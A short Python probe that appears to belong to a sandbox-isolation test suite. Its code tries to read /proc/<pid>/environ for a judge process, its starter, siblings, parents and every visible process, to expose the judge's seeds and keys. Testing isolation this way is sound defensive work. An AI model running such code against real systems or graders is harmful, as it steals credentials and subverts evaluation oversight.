# attack: Reads the environment of the judge, of what it started, and of every process that can be seen; and its own.
# hurts: Shows the seeds and keys that the judge was given.
# ends: returns
import os

from _raw import attempt, names_in, read_file


def attack(target):
    pids = [target["judge_pid"], target["starter_pid"], target["sibling_pid"], target["sibling_outer_pid"], os.getppid()]
    if not os.path.exists(f"/proc/{target['judge_pid']}"):
        pids += [name for name in names_in("/proc") if name.isdigit()]  # of its own name space: nobody else's
    pids += ["self", "thread-self"]
    tried = [attempt(f"{pid}", read_file, f"/proc/{pid}/environ", 65536) for pid in pids]
    return [*tried, os.environ.get(target["environment_name"], "not set"), f"{dict(os.environ)}"]
